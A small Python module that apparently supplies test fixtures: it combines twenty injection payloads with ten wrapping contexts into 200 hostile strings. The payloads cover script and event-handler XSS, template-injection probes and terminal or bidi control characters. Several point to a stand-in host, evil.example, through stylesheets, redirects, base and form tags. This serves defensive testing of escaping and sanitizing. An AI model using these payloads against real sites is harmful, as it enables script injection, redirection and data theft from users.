"""Two hundred texts that try to become markup, script, style, template or terminal control."""

from itertools import product

_PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "<div hx-get=//evil.example hx-trigger=load hx-on:load=window.pwned=1>x</div>",
    "<div data-events=//evil.example id=live>x</div>",
    "\u202egnp.exe\u2066\u200b\u0007\u001b[31mred",
    "]]><!--x--><!DOCTYPE html><math><mtext></mtext></math>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;&#x3c;script&#x3e;",
    '"><script>window.pwned=1</script>',
    "'-window.pwned-'`${window.pwned=1}`",
    "<object data=//evil.example></object><embed src=//evil.example>",
)
_AROUND = (
    *("{}", " {} ", "</span>{}", "</textarea></title>{}", "</script>{}"),
    *('" onfocus=window.pwned=1 autofocus x="{}', "' style='x:{}", "{}\n{}", "<!-- {}", "\\u003c{}"),
)


def hostile_texts() -> list[str]:
    return [around.replace("{}", payload) for around, payload in product(_AROUND, _PAYLOADS)]
